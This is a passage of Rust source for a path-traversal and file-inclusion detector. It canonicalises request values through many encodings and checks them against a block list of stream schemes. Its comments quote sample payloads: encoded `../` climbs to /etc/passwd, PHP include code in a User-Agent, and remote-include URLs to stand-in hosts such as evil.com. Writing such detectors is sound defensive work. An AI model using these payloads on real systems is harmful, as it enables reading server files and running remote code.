//! Path traversal and local-file inclusion.
//!
//! The value is canonicalised as the most lenient file API would see it ([`canonical`]:
//! layered percent-encoding, overlong UTF-8, `%uXXXX`, look-alike dots and slashes, `0x2e`
//! notation, `\` as `/`, NUL bytes), then judged on structure:
//!
//! * it **climbs** out of its base directory: walking its segments, `..` (or `...`, `....`,
//!   `..;`) takes the depth below zero;
//! * it names a **sensitive file** of the operating system or platform ([`sensitive`]);
//! * it starts with a stream **scheme** that makes an include read or run something
//!   (`file:`, `php://`, `zip://`, `phar://`, `expect://`, …).

mod classes;
mod sensitive;

use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use base64::Engine as _;
use std::borrow::Cow;

use crate::normalize::{fold_lookalike, html_entity_decode, lenient_decode};
use crate::{AttackKind, Context, Detection, Engine};

/// Most segments walked per value: deeper paths are judged on their first segments.
const MAX_SEGMENTS: usize = 512;

/// Schemes that turn a file include into a read of arbitrary data or code execution.
const SCHEMES: &[&str] = &[
    "file:",
    "php://",
    "zip://",
    "phar://",
    "expect://",
    "glob://",
    "compress.zlib://",
    "compress.bzip2://",
    "data://",
    "data:text/plain",
    // A data URL without a media type is text/plain: `data:;base64,PD9w…` includes code.
    "data:;",
    // PHP source by its media type: whatever it carries is code.
    "data:application/x-httpd-php",
    "rar://",
    // PECL ssh2 wrappers: `ssh2.exec://host/cmd` runs a command on the host.
    "ssh2.exec://",
    "ssh2.shell://",
    "ssh2.sftp://",
    "ssh2.tunnel://",
    "jar:file:",
    "jar:http:",
    "jar:https:",
    "netdoc:",
    // Spring's resource prefix reads the application's own configuration and classes
    // (`classpath*:` from every jar).
    "classpath:",
    "classpath*:",
    // Schemes a fetch-by-URL parameter must never be handed: gopher and dict write raw bytes
    // to any TCP port (Redis, SMTP, memcached behind the firewall), LDAP lookups load remote
    // objects, TFTP reads files without authentication.
    "gopher://",
    "dict://",
    "ldap://",
    "tftp://",
    // PHP's oggvorbis wrapper opens any stream it wraps, remote ones included.
    "ogg://",
    // File shares and transfers a URL fetcher (libcurl, libsmbclient) reaches: SMB is the
    // UNC share of another host (and the server's credentials sent to it), SFTP an SSH
    // handshake to any host and port. A page or a link never hands a server these.
    "smb://",
    "sftp://",
];

/// [`BYTE_CLASS`] bits. `RELEVANT`: a dot, separator, scheme colon, escape, `0` (of `0x2e`)
/// or non-ASCII byte. `NOT_PLAIN`: a separator, escape, control or non-ASCII byte (the value
/// needs its canonical form). `ZERO`: a `0`. `REWRITTEN`: an ASCII byte [`canonical`] may
/// change other than by lower-casing: `%`, `\`, a control other than `\n` and `\t`.
/// `COLON`: a `:`, without which no scheme opens and no NTFS stream is named. `SLASH`: a `/`,
/// without which a literal value is no rooted path and has no directory to climb out of.
const RELEVANT: u8 = 1;
const NOT_PLAIN: u8 = 2;
const ZERO: u8 = 4;
const REWRITTEN: u8 = 8;
const COLON: u8 = 16;
/// A lead byte of the characters outside ASCII [`canonical`] may change (see
/// [`non_ascii_kept`]).
const CHANGED_LEAD: u8 = 32;
/// `&`, which opens a character reference ([`judge_references`]), or `~`, which marks an
/// 8.3 short name ([`sensitive::short_name_target`]): both rare in ordinary values, so one
/// bit gates both tests (each searches its own byte first).
const AMP_TILDE: u8 = 64;
const SLASH: u8 = 128;

static BYTE_CLASS: [u8; 256] = BYTE_CLASSES;

/// [`BYTE_CLASS`]'s entries (a constant: [`classes`] builds its nibble tables from it at
/// compile time).
const BYTE_CLASSES: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        if matches!(c, b'.' | b'/' | b'\\' | b'%' | b':' | b'0') || c >= 0x80 {
            t[b] |= RELEVANT;
        }
        if matches!(c, b'/' | b'\\' | b'%') || c.is_ascii_control() || c >= 0x80 {
            t[b] |= NOT_PLAIN;
        }
        if matches!(c, b'\\' | b'%') || (c.is_ascii_control() && c != b'\n' && c != b'\t') {
            t[b] |= REWRITTEN;
        }
        if c == b':' {
            t[b] |= COLON;
        }
        if c == b'/' {
            t[b] |= SLASH;
        }
        if matches!(c, 0xc2 | 0xc4 | 0xe2 | 0xee | 0xef) {
            t[b] |= CHANGED_LEAD;
        }
        if c == b'&' || c == b'~' {
            t[b] |= AMP_TILDE;
        }
        b += 1;
    }
    t[b'0' as usize] |= ZERO;
    t
};

/// Build the tables this detector builds on first use (the sensitive-file automaton, a few
/// milliseconds; the loose-path searchers) now, so that the first value checked does not pay
/// for them: for a caller that sets up its detectors before serving requests.
pub fn warm() {
    sensitive::warm();
}

/// Detect path traversal in `value` found in `ctx`.
pub fn detect(value: &str, ctx: Context) -> Option<Detection> {
    let reason = if matches!(ctx, Context::UserAgent | Context::Referer) {
        judge_url_header(value)
    } else {
        // An XML document's text nodes and attribute values are paths of their own
        // (`<INCLUDE>/etc/passwd</INCLUDE>`, see [`crate::xml_doc`]).
        judge_value(value, ctx)
            .or_else(|| crate::xml_doc::document_values(value, |t| judge_value(t, Context::Param)))
    }?;
    Some(Detection {
        kind: AttackKind::Traversal,
        engine: Engine::Grammar,
        score: 1.0,
        reason,
    })
}

/// Longest canonical text [`judge_url_header`] searches for a climb's target.
const MAX_HEADER_WALK: usize = 8192;

/// A User-Agent or a Referer. A browser's Referer is an absolute URL whose dot segments it
/// already resolved, and a User-Agent is product tokens (`name/version`) and comments, both
/// full of slashes, dots and versions; applications read them as paths only when an
/// analytics cache, a log viewer or a locale include hands one to a file API. So a value of
/// either shape counts only for what no browser or client sends: a stream wrapper or a file
/// URL to a known target (`php://filter/…`, `file:///etc/passwd`), a climb that reaches a
/// known target (`https://example.com/page?f=../../../../etc/passwd`), a dot segment spelled
/// for a filter or a servlet container (`..././`, `....//`, `..;/`, `..%09/`), or a URL path
/// that climbs above the URL's root (`https://example.com/files/../../../`). A climb that
/// stays on the site (`https://example.com/docs/../guide/`) is a link. A value of neither
/// shape (`/etc/passwd`, `../../config.php`, `C:\Windows\win.ini`, `\\host\c$\…`) is no
/// URL and no User-Agent: it is judged as any other value is.
fn judge_url_header(value: &str) -> Option<&'static str> {
    let Some(reason) = judge_value(value, Context::Header) else {
        // The ordinary judgement resolves a URL's path as a browser would; here a path
        // still climbing above the root is what no browser sent.
        let maybe = value.len() <= MAX_HEADER_WALK
            && (memchr::memmem::find(value.as_bytes(), b"..").is_some()
                || memchr::memchr(b'%', value.as_bytes()).is_some());
        if !maybe {
            return None;
        }
        let canon = canonical(value);
        let b = canon.as_bytes();
        let start = b
            .iter()
            .position(|c| !c.is_ascii_whitespace() && !matches!(c, b'"' | b'\''))?;
        let t = &b[start..];
        return url_path_start(t)
            .is_some_and(|path| url_path_climbs_above_root(&t[path..]))
            .then_some("climb");
    };
    let canon = canonical(value);
    let b = canon.as_bytes();
    if b.len() > MAX_HEADER_WALK {
        return None;
    }
    let start = b
        .iter()
        .position(|c| !c.is_ascii_whitespace() && !matches!(c, b'"' | b'\''))?;
    let t = &b[start..];
    if reason == "scheme" {
        // A page saved on a desktop (`file:///C:/Users/John/Desktop/index.html`) is a
        // `file:` URL a person's own browser shows: only one to a known target counts.
        let file_url = t.starts_with(b"file:");
        return (!file_url || sensitive::names_sensitive_file(&canon)).then_some(reason);
    }
    let url = url_path_start(t);
    if url.is_none() && !product_token(t) {
        return Some(reason);
    }
    // `Mozilla/5.0 … <?php include('/etc/passwd'); ?>`: no client quotes a path in its
    // product tokens or comments; a string literal naming a system file is code written
    // into the header for a log viewer or an include of the access log to run.
    if url.is_none() && reason == "sensitive-file" && quoted_sensitive_literal(b) {
        return Some(reason);
    }
    // `ftp://anonymous@127.0.0.1/etc/passwd`: a browser's Referer is an http(s) page; a
    // URL of another scheme whose path names a system file is one for a server-side
    // fetcher (ftp, smb, sftp) to read.
    if let Some(path) = url {
        let web = t.starts_with(b"http:") || t.starts_with(b"https:");
        if !web
            && canon.is_char_boundary(start + path)
            && sensitive::names_sensitive_file(&canon[start + path..])
        {
            return Some(reason);
        }
    }
    if filter_dot_segment(b) || parameter_dot_segment(&canon) {
        return Some(reason);
    }
    if url.is_some_and(|path| url_path_climbs_above_root(&t[path..])) {
        return Some(reason);
    }
    // From the first step up: the walk and the file it reaches.
    let step = memchr::memmem::find_iter(b, b"..")
        .take(MAX_SEGMENTS)
        .find(|&i| matches!(b.get(i + 2), Some(b'/' | b';')))?;
    sensitive::names_sensitive_file(&canon[step..]).then_some(reason)
}

/// Most quotes [`quoted_sensitive_literal`] examines, and the longest literal it reads.
const MAX_QUOTES: usize = 16;
const MAX_LITERAL: usize = 256;

/// Whether the canonical text `b` holds a string literal (`'…'` or `"…"`) whose whole text is
/// a rooted path (`/…` or a drive) naming a sensitive file: code's argument, not prose.
fn quoted_sensitive_literal(b: &[u8]) -> bool {
    memchr::memchr2_iter(b'\'', b'"', b)
        .take(MAX_QUOTES)
        .any(|open| {
            let inner = &b[open + 1..];
            let rooted = inner.first() == Some(&b'/')
                || (inner.len() > 2 && inner[0].is_ascii_alphabetic() && inner[1] == b':');
            let Some(close) = inner.iter().take(MAX_LITERAL).position(|&c| c == b[open]) else {
                return false;
            };
            rooted
                && std::str::from_utf8(&inner[..close]).is_ok_and(sensitive::names_sensitive_file)
        })
}

/// Where the path of the absolute URL `t` (a canonical value from its first character)
/// starts: after `scheme://` and the authority, at its `/` (or at the end when it has
/// none); `None` when `t` is no `scheme://` URL.
fn url_path_start(t: &[u8]) -> Option<usize> {
    let colon = t.iter().take(32).position(|&c| c == b':')?;
    let scheme = &t[..colon];
    let scheme_ok = scheme.first().is_some_and(u8::is_ascii_alphabetic)
        && scheme
            .iter()
            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'));
    if !scheme_ok || !t[colon + 1..].starts_with(b"//") {
        return None;
    }
    let authority = colon + 3;
    let end = t[authority..]
        .iter()
        .position(|&c| matches!(c, b'/' | b'?' | b'#'))
        .map_or(t.len(), |i| authority + i);
    Some(end)
}

/// Whether `t` (a canonical value from its first character) opens as a User-Agent does: a
/// product token, then `/` and a version that starts with a digit (`Mozilla/5.0`,
/// `curl/8.4.0`, `com.google.android.youtube/17.36.4`), or a token followed by a blank
/// (`Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)`). A relative path opens
/// with a name then `/` and a name (`uploads/../x`, `etc/passwd`), an absolute one with a
/// separator or a drive, a hidden file with a dot: none is a product token.
fn product_token(t: &[u8]) -> bool {
    let token = t
        .iter()
        .take(128)
        .take_while(|&&c| {
            c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'+' | b'-' | b'!' | b'*' | b'~')
        })
        .count();
    // `-u file:///etc/passwd`, `-K /dev/stdin`: a dash opens a command-line option (the
    // header copied into a curl or wget command line), never a product's name.
    if token == 0 || t[0] == b'.' || t[0] == b'-' {
        return false;
    }
    match t.get(token) {
        Some(b'/') => t.get(token + 1).is_some_and(u8::is_ascii_digit),
        Some(b' ' | b'\t' | b'(') => true,
        _ => false,
    }
}

/// Most segments [`filter_dot_segment`] and [`url_path_climbs_above_root`] read.
const MAX_HEADER_SEGMENTS: usize = 256;

/// A dot segment spelled for a filter rather than a path: three or more dots before a `/`
/// (`....//` and `..././` are what a filter that deletes `../` once turns into `../`;
/// `.../.../` is a fuzzer's), `..` padded with a blank or tab that a lenient API trims
/// (`..%09/`, `..%20/`), or `..` with a path parameter (`..;/`) that Tomcat cuts off. No browser or HTTP client writes such a segment, nor a User-Agent
/// (whose ellipses, `Windows NT 10.0; ...)`, end no segment before a `/`).
fn filter_dot_segment(b: &[u8]) -> bool {
    let mut at = 0;
    for raw in b.split(|&c| c == b'/').take(MAX_HEADER_SEGMENTS) {
        at += raw.len() + 1;
        // Only a segment a `/` ends.
        if at > b.len() {
            break;
        }
        let dots = raw.iter().take_while(|&&c| c == b'.').count();
        if dots < 2 {
            continue;
        }
        let tail = &raw[dots..];
        if dots >= 3 && tail.is_empty() {
            return true;
        }
        if dots == 2 && !tail.is_empty() && tail.iter().all(|&c| matches!(c, b' ' | b'\t')) {
            return true;
        }
        // `..;/`, `..;jsessionid=0/`: Tomcat cuts the path parameter, then climbs.
        if tail.first() == Some(&b';') && !tail.iter().any(u8::is_ascii_whitespace) {
            return true;
        }
    }
    false
}

/// Whether the path of a URL (`path`: from its first `/` up to the end of the value)
/// climbs above the site's root: more `..` segments than names before them, counted up to
/// the query. A browser resolves dot segments before it sends a URL (RFC 3986 stops them at
/// the root), so a Referer that still climbs past the root was written for a server's file
/// API, not followed from a page.
fn url_path_climbs_above_root(path: &[u8]) -> bool {
    let end = path
        .iter()
        .position(|&c| matches!(c, b'?' | b'#'))
        .unwrap_or(path.len());
    let mut depth: i32 = 0;
    for seg in path[..end].split(|&c| c == b'/').take(MAX_HEADER_SEGMENTS) {
        let seg = trim_blanks(seg);
        if seg.is_empty() || seg == b"." {
            continue;
        }
        if is_dot_segment(seg) {
            depth -= 1;
            if depth < 0 {
                return true;
            }
        } else {
            depth += 1;
        }
    }
    false
}

/// The reason `value` found in `ctx` is an attack, through every decoding layer.
fn judge_value(value: &str, ctx: Context) -> Option<&'static str> {
    // One pass over the bytes gives every early exit, the decoding layers' included.
    let classes = classes::of(value.as_bytes());
    if classes & COLON != 0 && own_document_file_url(value) {
        return None;
    }
    judge_classified(value, ctx, classes, false)
        .or_else(|| {
            (classes & AMP_TILDE != 0)
                .then(|| judge_references(value, ctx))
                .flatten()
        })
        .or_else(|| {
            // `\` is one of the bytes [`REWRITTEN`] marks.
            (classes & REWRITTEN != 0)
                .then(|| judge_css_escapes(value, ctx).or_else(|| judge_hex_escapes(value, ctx)))
                .flatten()
        })
        .or_else(|| (classes & COLON != 0 && remote_include(value)).then_some("remote-include"))
        // A scratch path holds a `/` ([`SLASH`]): without one, no script file to look for.
        .or_else(|| (classes & SLASH != 0 && scratch_script(value)).then_some("sensitive-file"))
        .or_else(|| judge_base64(value, ctx))
        .or_else(|| judge_hex(value, ctx))
        .or_else(|| shell_unquoted(value).and_then(|u| judge_decoded(&u, ctx)))
        .or_else(|| {
            (classes & NOT_PLAIN != 0)
                .then(|| ideographic_dot_segments(value, classes))
                .flatten()
                .and_then(|u| judge_decoded(&u, ctx))
        })
}

/// Longest value [`ideographic_dot_segments`] reads.
const MAX_IDEOGRAPHIC: usize = 4096;

/// The CJK full stops (U+3002 `。`, U+FF61 `｡`) that IDNA's mapping (UTS #46) and normalisers
/// built on it turn into `.`: a path that passes through such a step before it reaches the
/// file API reads `。。/` as `../`.
const IDEOGRAPHIC_STOPS: [char; 2] = ['\u{3002}', '\u{ff61}'];

/// `value` (percent-decoded when it spells the stops' bytes escaped) with the CJK full stops
/// of each whole dot segment (`。。/`, `/｡｡/`, `.。\\`: only dots between separators or the
/// value's ends) written as `.`, or `None` when no segment has one. A full stop inside a
/// sentence (`すごい。。/笑`, `終わり。`) ends the sentence and is left alone, so Japanese and
/// Chinese prose never forms a climb this way.
fn ideographic_dot_segments(value: &str, classes: u8) -> Option<String> {
    let b = value.as_bytes();
    if b.len() > MAX_IDEOGRAPHIC {
        return None;
    }
    // Both stops are led by 0xE3 or 0xEF in UTF-8 (`%E3%80%82`, `%EF%BD%A1` escaped).
    let raw = memchr::memchr2(0xe3, 0xef, b).is_some();
    // (a `%` is one of the bytes [`REWRITTEN`] marks: without that bit, no escape to find)
    let escaped = !raw
        && classes & REWRITTEN != 0
        && memchr::memchr_iter(b'%', b)
            .take(64)
            .any(|i| matches!(b.get(i + 1..i + 3), Some([b'e' | b'E', b'3' | b'f' | b'F'])));
    if !raw && !escaped {
        return None;
    }
    let text = if escaped {
        crate::normalize::percent_decode_deep(value)
    } else {
        std::borrow::Cow::Borrowed(value)
    };
    if !holds_ideographic_stop(text.as_bytes()) {
        return None;
    }
    let separator = |c: char| {
        matches!(
            c,
            '/' | '\\' | '\u{ff0f}' | '\u{ff3c}' | '\u{2215}' | '\u{2216}'
        )
    };
    let dot = |c: char| matches!(c, '.' | '\u{ff0e}') || IDEOGRAPHIC_STOPS.contains(&c);
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len());
    let mut changed = false;
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if !dot(c) {
            out.push(c);
            i += 1;
            continue;
        }
        let run = chars[i..].iter().take_while(|&&c| dot(c)).count();
        let segment = (i == 0 || separator(chars[i - 1]))
            && chars.get(i + run).is_none_or(|&c| separator(c))
            && (i > 0 || chars.get(i + run).is_some());
        for &d in &chars[i..i + run] {
            if segment && IDEOGRAPHIC_STOPS.contains(&d) {
                out.push('.');
                changed = true;
            } else {
                out.push(d);
            }
        }
        i += run;
    }
    changed.then_some(out)
}

/// Whether `b` holds one of [`IDEOGRAPHIC_STOPS`]: their UTF-8 encodings (`E3 80 82`,
/// `EF BD A1`) found from their lead bytes by one vectorised search, where `str::contains`
/// with a set of characters decodes every character of the text (CJK prose is all
/// characters outside ASCII). A lead byte only ever starts a character, so a match of the
/// bytes is a match of the character.
fn holds_ideographic_stop(b: &[u8]) -> bool {
    memchr::memchr2_iter(0xe3, 0xef, b).any(|i| {
        matches!(
            b.get(i..i + 3),
            Some([0xe3, 0x80, 0x82] | [0xef, 0xbd, 0xa1])
        )
    })
}

/// Longest value [`shell_unquoted`] reads (a path is short).
const MAX_QUOTED_PATH: usize = 1024;

/// A path written with shell quotes inside its words (`/e"t"c/pa's's'wd`, `/et''c/passwd`),
/// as a shell reads it: a value that lands in a command line (`cat $file`, `sh -c`) loses
/// its quotes to quote removal, and the file API gets the joined path. Only one token with
/// no blank, and only when what is left is a path (a separator and
/// path characters alone): prose (`it's /etc/hosts`, `"/etc" is a folder`) has blanks, and
/// JSON or code keeps its brackets, colons and commas.
fn shell_unquoted(value: &str) -> Option<String> {
    let v = value.trim_ascii().as_bytes();
    // Only path bytes and quotes can make such a token: most values (prose, markup) have a
    // blank or other punctuation and leave before anything is copied.
    if v.len() > MAX_QUOTED_PATH
        || !v.iter().all(|&c| {
            c.is_ascii_alphanumeric()
                || matches!(c, b'/' | b'\\' | b'.' | b'_' | b'-' | b'~' | b'"' | b'\'')
        })
        || memchr::memchr2(b'"', b'\'', v).is_none()
    {
        return None;
    }
    let mut out = Vec::with_capacity(v.len());
    let mut quote: Option<u8> = None;
    let mut inner = false;
    for (i, &c) in v.iter().enumerate() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => out.push(c),
            None if matches!(c, b'"' | b'\'') => {
                quote = Some(c);
                // A quote between two bytes of the token, not one around the whole value.
                inner |= i > 0 && i + 1 < v.len();
            }
            None => out.push(c),
        }
    }
    // A quote left open at the end (`pa's's'wd`) is closed by the command line the value
    // is pasted into (`cat '…'`), or by the end of the text for a lenient splitter.
    let path = inner
        && memchr::memchr2(b'/', b'\\', &out).is_some()
        && out.iter().all(|&c| {
            c.is_ascii_alphanumeric() || matches!(c, b'/' | b'\\' | b'.' | b'_' | b'-' | b'~')
        });
    // Only ASCII path bytes are left: the text is UTF-8.
    path.then(|| String::from_utf8(out).ok()).flatten()
}

/// Shortest hex text [`judge_hex`] decodes (8 bytes: `../../x` is 7).
const MIN_HEX: usize = 16;

/// A value that is wholly hex digits spelling printable ASCII
/// (`2e2e2f2e2e2f6574632f706173737764`): applications carry file names in hex in download
/// links and tokens (`?f=<hex>`, Java `Hex.decodeHex`), and the file API reads the decoded
/// text, judged as the value would be. A hash, key or id is random bytes, which almost
/// never all fall in printable ASCII (and then name no path).
fn judge_hex(value: &str, ctx: Context) -> Option<&'static str> {
    let v = value.trim_ascii().as_bytes();
    if v.len() < MIN_HEX || v.len() > MAX_BASE64 || v.len() % 2 == 1 {
        return None;
    }
    let digit = |c: u8| match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    };
    // Most values of that length are no hex text (prose, tokens): they leave here, before
    // the buffer is allocated. (The loop below answers `None` at any byte that is no hex
    // digit, so this changes no answer.)
    if !v.iter().all(u8::is_ascii_hexdigit) {
        return None;
    }
    let mut out = Vec::with_capacity(v.len() / 2);
    for pair in v.chunks_exact(2) {
        let byte = digit(pair[0])? << 4 | digit(pair[1])?;
        if !(b' '..=b'~').contains(&byte) {
            return None;
        }
        out.push(byte);
    }
    // Printable ASCII only: the text is UTF-8.
    let text = String::from_utf8(out).ok()?;
    judge_decoded(&text, ctx)
}

/// An absolute path to a server-side script in a directory anyone can write (`/tmp/x.php`,
/// `/dev/shm/s.phtml`): an include parameter given the file an upload or a session just
/// dropped there runs it.
fn scratch_script(value: &str) -> bool {
    let v = value.trim_ascii().as_bytes();
    // The path starts within the longest file prefix: without a `/` there, nothing to read
    // (most values leave here before the prefix is read).
    if memchr::memchr(b'/', &v[..v.len().min(sensitive::MAX_FILE_PREFIX + 1)]).is_none() {
        return false;
    }
    // `@/tmp/x.php`, `file=/tmp/x.php`: the path after a file prefix.
    let v = &v[sensitive::file_prefix_len(v)..];
    let scratch = [&b"/tmp/"[..], b"/var/tmp/", b"/dev/shm/"]
        .iter()
        .any(|d| v.starts_with(d));
    scratch
        && !v.iter().any(|&c| matches!(c, b' ' | b'\t'))
        && v.iter().rposition(|&c| c == b'.').is_some_and(|d| {
            let ext = &v[d + 1..];
            [
                &b"php"[..],
                b"phtml",
                b"phar",
                b"php5",
                b"php7",
                b"inc",
                b"jsp",
                b"asp",
                b"aspx",
            ]
            .iter()
            .any(|e| ext.eq_ignore_ascii_case(e))
        })
}

/// Longest value [`judge_base64`] decodes (a path is short; a long token is data).
const MAX_BASE64: usize = 4096;

/// A value that is wholly base64 (`Li4vLi4vZXRjL3Bhc3N3ZA==`): applications decode file
/// names and paths carried in tokens, cookies, headers and download links
/// (`/download?f=<base64>`), and the file API reads the decoded text. The decoded text is
/// judged as a value would be, in every location alike (the request layer decodes base64
/// only where PyRASP did). Same acceptance as the request layer's anchored decode: one
/// alphabet, at least 8 characters before up to two `=`, not one lower-case word, and
/// printable UTF-8 out.
fn judge_base64(value: &str, ctx: Context) -> Option<&'static str> {
    let text = base64_text(value.trim_ascii())?;
    judge_classified(&text, ctx, classes::of(text.as_bytes()), false)
}

/// Base64 decoders for [`base64_text`]: padding is trimmed before decoding, and bits left
/// over in the last character are ignored, as a lenient application decoder does.
const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::RequireNone)
    .with_decode_allow_trailing_bits(true);
const STANDARD_LENIENT: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
const URL_SAFE_LENIENT: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);

/// `b` (base64 without its padding) decoded in the one alphabet its bytes allow: URL-safe
/// when it holds `-` or `_`, standard otherwise; `None` when it mixes both alphabets or is
/// not base64.
fn decode_lenient(b: &[u8]) -> Option<Vec<u8>> {
    let standard = b.iter().any(|&c| matches!(c, b'+' | b'/'));
    let url_safe = b.iter().any(|&c| matches!(c, b'-' | b'_'));
    if standard && url_safe {
        return None;
    }
    let engine = if url_safe {
        &URL_SAFE_LENIENT
    } else {
        &STANDARD_LENIENT
    };
    engine.decode(b).ok()
}

/// The text `v` decodes to as base64 (standard or URL-safe alphabet, padding optional),
/// or `None` when `v` is not wholly base64 or decodes to bytes that are not printable text.
fn base64_text(v: &str) -> Option<String> {
    let core = v.trim_end_matches('=');
    let b = core.as_bytes();
    if b.len() < 8 || b.len() > MAX_BASE64 || v.len() - core.len() > 2 || b.len() % 4 == 1 {
        return None;
    }
    // Every byte is of the alphabet; one word of lower-case letters is a word. The
    // alphabet test goes first: it stops at the first other byte (a blank in prose), where
    // the two alphabet searches would read the whole value.
    if !b
        .iter()
        .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_'))
        || b.iter().all(u8::is_ascii_lowercase)
    {
        return None;
    }
    let out = decode_lenient(b)?;
    let text = String::from_utf8(out).ok()?;
    let printable = !text.is_empty()
        && !text
            .chars()
            .any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'));
    printable.then_some(text)
}

/// A path spelled with character references (`&#46;&#46;&#47;etc&#47;passwd`,
/// `&period;&period;&sol;`): an XML or HTML layer between the request and the file API
/// decodes them, so the decoded value is judged as the value would be. One layer only:
/// the decoded text is judged by [`judge_decoded`], which decodes no references.
fn judge_references(value: &str, ctx: Context) -> Option<&'static str> {
    match html_entity_decode(value) {
        Cow::Owned(decoded) if decoded != value => judge_decoded(&decoded, ctx),
        _ => None,
    }
}

/// Longest value whose CSS escapes are decoded.
const MAX_CSS_ESCAPED: usize = 4096;

/// A path spelled with CSS escapes (`\2e\2e\2f etc\2f passwd`, `\00002e`): a stylesheet
/// or a CSS-aware sanitizer between the request and the file API (a `url()` the server
/// fetches, a font or image path in a theme setting) reads them as the characters. Decoded
/// only where an escape spells a dot, slash or backslash; one layer, judged by
/// [`judge_decoded`].
fn judge_css_escapes(value: &str, ctx: Context) -> Option<&'static str> {
    let b = value.as_bytes();
    if b.len() > MAX_CSS_ESCAPED {
        return None;
    }
    memchr::memchr(b'\\', b)?;
    let mut out = String::with_capacity(b.len());
    let mut spelled = false;
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\' {
            let digits = b[i + 1..]
                .iter()
                .take(6)
                .take_while(|c| c.is_ascii_hexdigit())
                .count();
            if digits > 0 {
                let hex = &value[i + 1..i + 1 + digits];
                if let Some(c) = u32::from_str_radix(hex, 16).ok().and_then(char::from_u32) {
                    spelled |= matches!(c, '.' | '/' | '\\');
                    out.push(c);
                    i += 1 + digits;
                    // one blank ends an escape and belongs to it
                    if matches!(b.get(i), Some(b' ' | b'\t' | b'\n')) {
                        i += 1;
                    }
                    continue;
                }
            }
        }
        // copy the character at `i` whole
        let Some(c) = value[i..].chars().next() else {
            break;
        };
        out.push(c);
        i += c.len_utf8();
    }
    if spelled {
        judge_decoded(&out, ctx)
    } else {
        None
    }
}

/// A path spelled with C-style byte escapes (`\x2e\x2e\x2fetc\x2fpasswd`) or the
/// `\u002e` escapes of JavaScript, JSON and Java properties: a PHP `stripcslashes`, a JSON
/// document decoded twice, a template layer, or a log viewer that unescapes before opening
/// reads them as the characters. Decoded only where an escape spells a dot, slash or
/// backslash (as [`judge_css_escapes`] does for CSS's), one layer, judged by
/// [`judge_decoded`], so the value is judged alike in every location (the request layer
/// unescapes only some); `C:\xampp` has no escape (`m` is no hex digit), nor has
/// `C:\users` (`s` is none).
fn judge_hex_escapes(value: &str, ctx: Context) -> Option<&'static str> {
    let b = value.as_bytes();
    if b.len() > MAX_CSS_ESCAPED
        || !memchr::memchr_iter(b'\\', b)
            .any(|i| matches!(b.get(i + 1), Some(b'x' | b'X' | b'u' | b'U')))
    {
        return None;
    }
    let mut out = Vec::with_capacity(b.len());
    let mut spelled = false;
    let mut i = 0;
    let hex = |c: Option<&u8>| c.and_then(|&c| char::from(c).to_digit(16));
    while i < b.len() {
        if b[i] == b'\\' && matches!(b.get(i + 1), Some(b'x' | b'X' | b'u' | b'U')) {
            // `\xHH` is two digits, `\uHHHH` four (of which only ASCII is decoded).
            let width = if matches!(b[i + 1], b'x' | b'X') {
                2
            } else {
                4
            };
            let code = (0..width).try_fold(0u32, |n, k| hex(b.get(i + 2 + k)).map(|d| n * 16 + d));
            if let Some(code) = code {
                // Only ASCII is decoded: the text stays UTF-8.
                if let Ok(byte) = u8::try_from(code) {
                    if byte.is_ascii() && byte != 0 {
                        spelled |= matches!(byte, b'.' | b'/' | b'\\');
                        out.push(byte);
                        i += 2 + width;
                        continue;
                    }
                }
            }
        }
        out.push(b[i]);
        i += 1;
    }
    if !spelled {
        return None;
    }
    String::from_utf8(out)
        .ok()
        .and_then(|decoded| judge_decoded(&decoded, ctx))
}

/// Extensions of files an include runs as code when fetched as text from another host.
const REMOTE_CODE_TEXT: &[&str] = &["txt", "text", "inc"];

/// A URL a remote file inclusion hands to `include()` (with `allow_url_include`) by its
/// shape: the scheme separator written half-encoded (`http:%2f%2fevil.com%2fs.txt`, which no
/// browser or client sends: they encode the colon too, or nothing, but `include()` decodes
/// it), or a URL to a file cut before the application's own suffix, by a NUL
/// (`http://evil.com/shell.txt%00`) or, for a text file the include runs as code, by a
/// bare `?` that turns the appended `.php` into a query (`http://attacker/shell.txt?`). A
/// search link ending in `?` (`https://example.com/search?`) names no such file.
fn remote_include(value: &str) -> bool {
    let t = value.trim_start_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    // `include=http://evil/shell.txt?`, `?page=http://…`: a parameter written into the
    // value (a forwarded query, a form field holding `name=value`) hands its URL to the
    // include as the bare value would.
    remote_include_url(t)
        || memchr::memchr_iter(b'=', t.as_bytes())
            .take(MAX_EMBEDDED_COLONS)
            // (the URL's first letter before the parameter's name, which is a scan back)
            .filter(|&eq| matches!(t.as_bytes().get(eq + 1), Some(b'h' | b'H' | b'f' | b'F')))
            .filter(|&eq| parameter_value(&t.as_bytes()[..=eq]).is_some())
            .any(|eq| remote_include_url(&t[eq + 1..]))
}

/// [`remote_include`] on a value that starts where its URL would.
fn remote_include_url(t: &str) -> bool {
    // Every scheme read here starts with `h` or `f`: most values with a colon leave here.
    if !t.starts_with(['h', 'H', 'f', 'F']) {
        return false;
    }
    let t = t.trim_end_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    let b = t.as_bytes();
    let Some(colon) = b.iter().take(6).position(|&c| c == b':') else {
        return false;
    };
    let scheme = &b[..colon];
    if !["http", "https", "ftp", "ftps"]
        .iter()
        .any(|s| scheme.eq_ignore_ascii_case(s.as_bytes()))
    {
        return false;
    }
    let rest = &b[colon + 1..];
    let starts = |p: &[u8]| {
        rest.get(..p.len())
            .is_some_and(|r| r.eq_ignore_ascii_case(p))
